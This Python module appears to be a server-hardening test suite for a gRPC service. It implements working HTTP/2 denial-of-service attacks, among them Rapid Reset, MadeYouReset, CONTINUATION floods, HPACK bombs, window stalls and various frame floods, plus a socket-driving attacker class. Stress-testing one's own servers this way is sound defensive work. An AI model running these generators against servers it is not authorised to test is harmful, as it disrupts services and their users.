"""HTTP/2 attacks: each a generator of the bytes that its attacker sends, as many as its victim lets it.

An attacker is a client whose every word a receiver understands: it greets, answers nothing and does not stop by itself.
"""

import collections
import select
import struct
import time
import uuid

import harness
from frames import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS,
                    WINDOW_UPDATE)

PRIORITY, PRIORITY_UPDATE, UNKNOWN = 2, 16, 0xbe
PADDED = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PROTOCOL_ERROR, FLOW_CONTROL_ERROR, STREAM_CLOSED, FRAME_SIZE_ERROR, CALM = 1, 3, 5, 6, 11
CANCEL = struct.pack(">I", 8)
WINDOW_MAX = 2**31 - 1
INITIAL_WINDOW_SIZE, HEADER_TABLE_SIZE = 4, 1
HEALTH = "/grpc.health.v1.Health/"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(*entries):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *entry) for entry in entries))


def text(value):
    """A string of fewer than 16,511 bytes, as it is."""
    value = value.encode() if isinstance(value, str) else value
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest = len(value) - 127
    return bytes([127, rest & 127 | 128, rest >> 7]) + value


def block(*fields):
    """Literal fields that leave the table as it is."""
    return b"".join(b"\x00" + text(name) + text(value) for name, value in fields)


def indexed(name, value):
    """A literal field that goes into the table."""
    return b"\x40" + text(name) + text(value)


def call_block(path, *fields):
    return block((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"), ("te", "trailers"),
                 ("content-type", "application/grpc"), *fields)


def message(payload=b""):
    return struct.pack(">BI", 0, len(payload)) + payload


CHECK = call_block(HEALTH + "Check")


def check(stream):
    """A call that is answered at once."""
    return frame(HEADERS, END_HEADERS, stream, CHECK) + frame(DATA, END_STREAM, stream, message())


def watch(stream):
    """A call that is not over before its client wants it to be."""
    return frame(HEADERS, END_HEADERS, stream, call_block(HEALTH + "Watch")) + frame(DATA, END_STREAM, stream, message())


def execute(stream):
    """A call that asks Redis first: of a session of which nobody has heard."""
    request = harness.edge.ExecuteCommandRequest(
        protocol_version="v1", device_session_id=str(uuid.uuid4()), message_type="test.echo",
        timestamp_ms=harness.now_ms(), request_id="1", payload_hash=b"1" * 32, signature=b"1" * 64)
    return (frame(HEADERS, END_HEADERS, stream, call_block(harness.EXECUTE))
            + frame(DATA, END_STREAM, stream, message(request.SerializeToString())))


def streams():
    return iter(range(1, WINDOW_MAX, 2))


def repeat(unit, count=64):
    while True:
        yield unit * count, count


# ---- floods ----

def ping_flood():
    yield from repeat(frame(PING, 0, 0, b"12345678"))


def settings_flood():
    yield from repeat(settings((INITIAL_WINDOW_SIZE, 65535)), 8)


def settings_table_churn():
    """Our encoder's table is emptied and made anew."""
    yield from repeat(settings((HEADER_TABLE_SIZE, 0), (HEADER_TABLE_SIZE, 4096)), 8)


def priority_flood():
    yield from repeat(frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 7)))


def priority_update_flood():
    yield from repeat(frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", 1) + b"u=1"))


def unknown_frame_flood():
    yield from repeat(frame(UNKNOWN, 0xff, 5, b"?"))


def window_update_flood():
    """Of a stream that is over: nothing could come of it."""
    yield check(1), 1
    yield from repeat(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)), 256)


def empty_data_flood():
    yield frame(HEADERS, END_HEADERS, 1, CHECK), 1
    yield from repeat(frame(DATA, 0, 1))


def padded_data_flood():
    """Nothing but padding."""
    yield frame(HEADERS, END_HEADERS, 1, CHECK), 1
    yield from repeat(frame(DATA, PADDED, 1, b"\x03" + bytes(3)))


def data_after_end_flood():
    """Small frames for a stream that is over; its client does not mind."""
    yield frame(HEADERS, END_HEADERS, 1, CHECK) + frame(RST_STREAM, 0, 1, CANCEL), 1
    yield from repeat(frame(DATA, 0, 1, b"x"), 256)


# ---- streams begun and given up ----

def rapid_reset():
    """CVE-2023-44487."""
    for stream in streams():
        yield execute(stream) + frame(RST_STREAM, 0, stream, CANCEL), 1


def rapid_reset_of_watches():
    for stream in streams():
        yield watch(stream) + frame(RST_STREAM, 0, stream, CANCEL), 1


def more_streams_than_offered():
    """A client that has not acknowledged the limit, so that it is not held to it."""
    for stream in streams():
        yield watch(stream), 1


def made_you_reset(after):
    """CVE-2025-8671: `after` lets the server give the stream up."""
    for stream in streams():
        yield watch(stream) + after(stream), 1


def window_overflow(stream):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", WINDOW_MAX))


def window_zero(stream):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def headers_after_end(stream):
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, CHECK)


def data_after_end(stream):
    return frame(DATA, END_STREAM, stream, message())


def priority_length(stream):
    return frame(PRIORITY, 0, stream, bytes(4))


def priority_of_itself(stream):
    return frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 1))


MADE_YOU_RESET = {form.__name__: form for form in (window_overflow, window_zero, headers_after_end, data_after_end,
                                                   priority_length, priority_of_itself)}


def settings_overflow():
    """The same for all streams at once: their windows and a larger initial one."""
    ids = streams()
    while True:
        stream = next(ids)
        yield (watch(stream) + settings((INITIAL_WINDOW_SIZE, 0))
               + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", WINDOW_MAX - 65536))
               + settings((INITIAL_WINDOW_SIZE, WINDOW_MAX))), 1


# ---- header blocks ----

def continuation_flood():
    """CVE-2024-28182 and its kin."""
    yield frame(HEADERS, 0, 1, CHECK), 1
    yield from repeat(frame(CONTINUATION, 0, 1, block(("x", "y" * 100))), 8)


def empty_continuation_flood():
    yield frame(HEADERS, 0, 1, CHECK), 1
    yield from repeat(frame(CONTINUATION, 0, 1), 8)


def chopped_headers():
    """As many CONTINUATIONs as are let pass, but for one, again and again: one that arrives in two parts counts as two."""
    for stream in streams():
        yield (frame(HEADERS, END_STREAM, stream, call_block(HEALTH + "Watch"))
               + frame(CONTINUATION, 0, stream) * 6 + frame(CONTINUATION, END_HEADERS, stream)), 1


def hpack_bomb():
    """A field of 4,000 bytes, of which each byte that follows makes another."""
    ids = streams()
    yield frame(HEADERS, END_HEADERS | END_STREAM, next(ids), CHECK + indexed("x-bomb", "b" * 4000)), 1
    for stream in ids:
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, CHECK + b"\xbe" * 16000), 1


def late_headers():
    """Of a stream that is over, with as much to decode as a frame can hold."""
    yield (frame(HEADERS, END_HEADERS, 1, CHECK + indexed("x-bomb", "b" * 4000)) + frame(RST_STREAM, 0, 1, CANCEL)), 1
    yield from repeat(frame(HEADERS, END_HEADERS | END_STREAM, 1, b"\xbe" * 16000), 1)


def header_list():
    """Over the limit, and nothing else: each field counts 32 bytes besides its own."""
    fill = block(("a", "b")) * 500
    for stream in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, CHECK + fill), 1


def table_churn():
    """Each call puts in as much as its header list may have, and so throws out as much: no fault, but work."""
    fill = b"".join(indexed(f"x{i}", "c" * 8) for i in range(340))
    for stream in streams():
        yield (frame(HEADERS, END_HEADERS, stream, CHECK + fill)
               + frame(DATA, END_STREAM, stream, message())), 1


def table_size_churn():
    """A block begins with as many changes of the table's size as fit."""
    for stream in streams():
        yield (frame(HEADERS, END_HEADERS, stream, b"\x20\x3f\xe1\x1f" * 3900 + CHECK)
               + frame(DATA, END_STREAM, stream, message())), 1


# ---- windows ----

def one_byte_windows():
    """Answers leave byte by byte, each in a frame of its own."""
    yield settings((INITIAL_WINDOW_SIZE, 0)), 0
    ids = streams()
    while True:
        some = [next(ids) for _ in range(50)]
        yield b"".join(map(check, some)), len(some)
        for _ in range(len(message()) + 2):
            yield b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in some), len(some)


def zero_windows():
    """As many calls as there may be, whose answers may not leave, and then one more."""
    yield settings((INITIAL_WINDOW_SIZE, 0)) + frame(SETTINGS, ACK), 0
    for stream in streams():
        yield check(stream), 1


# ---- what takes its time ----

def slow_preface():
    """For who has not greeted."""
    for byte in PREFACE + settings():
        yield bytes([byte]), 1


def never_ending_body():
    """A byte in each frame, of a message of 3 MiB."""
    yield frame(HEADERS, END_HEADERS, 1, call_block(harness.EXECUTE)) + frame(DATA, 0, 1, struct.pack(">BI", 0, 3 << 20)), 1
    yield from repeat(frame(DATA, 0, 1, b"x"))


def reset_in_work():
    """Each call is given up with the next: its work has begun by then."""
    for stream in streams():
        yield execute(stream) + (frame(RST_STREAM, 0, stream - 2, CANCEL) if stream > 1 else b""), 1


def never_reading():
    """For who does not read."""
    for stream in streams():
        yield check(stream), 1


# ---- the attacker ----

Outcome = collections.namedtuple("Outcome", "units code reason")


class Attacker:
    def __init__(self, address, greeting=None, is_deaf=False):
        """Who is deaf has small buffers, so that what it does not read is the victim's to hold."""
        self.socket = harness.connect(address, receive_bytes=4096 if is_deaf else None)
        self.socket.sendall(PREFACE + settings() if greeting is None else greeting)
        self.socket.setblocking(False)
        self.buffer = bytearray()
        self.counts = collections.Counter()  # of frames received, by kind
        self.goaway = None
        self.ended = False
        self.units = 0

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def read(self):
        """What there is."""
        try:
            while data := self.socket.recv(1 << 18):
                self.buffer += data
            self.ended = True
        except BlockingIOError:
            pass
        except ConnectionError:
            self.ended = True
        at = 0
        while len(self.buffer) >= at + 9 + (size := int.from_bytes(self.buffer[at:at + 3], "big")):
            kind = self.buffer[at + 3]
            self.counts[kind] += 1
            if kind == GOAWAY:
                payload = bytes(self.buffer[at + 9:at + 9 + size])
                self.goaway = (int.from_bytes(payload[4:8], "big"), payload[8:].decode())
            at += 9 + size
            if len(self.buffer) < at + 9:
                break
        del self.buffer[:at]

    def send(self, data, reads=True, patience=harness.PATIENCE):
        """Returns whether all of it went: the receiver is there, and takes it in time."""
        view = memoryview(data)
        while view and not self.ended:
            readable, writable, _ = select.select([self.socket] if reads else [], [self.socket], [], patience)
            if readable:
                self.read()
            if not writable and not readable:
                return False
            if writable and not self.ended:
                try:
                    view = view[self.socket.send(view):]
                except BlockingIOError:
                    pass
                except ConnectionError:
                    self.ended = True
        return not view

    def wait(self, question):
        while not question():
            if self.ended or not select.select([self.socket], [], [], harness.PATIENCE)[0]:
                raise harness.Failed(f"it did not come; so far {self.counts}, GOAWAY {self.goaway}")
            self.read()

    def rest(self, until, reads=True):
        """Up to this moment (time.monotonic()), or its end; reads what comes."""
        while (left := until - time.monotonic()) > 0 and not self.ended:
            if select.select([self.socket] if reads else [], [], [], left)[0]:
                self.read()

    def run(self, attack, units_max, until=lambda: False):
        """Until the connection is ended, `units_max` are sent or until() is true."""
        for data, units in attack:
            if not self.send(data):
                break
            self.units += units
            self.read()
            if self.ended or self.goaway or self.units >= units_max or until():
                break
        return self

    def outcome(self):
        """Waits for the end that must come."""
        self.wait(lambda: self.ended)
        return Outcome(self.units, *(self.goaway or (None, None)))
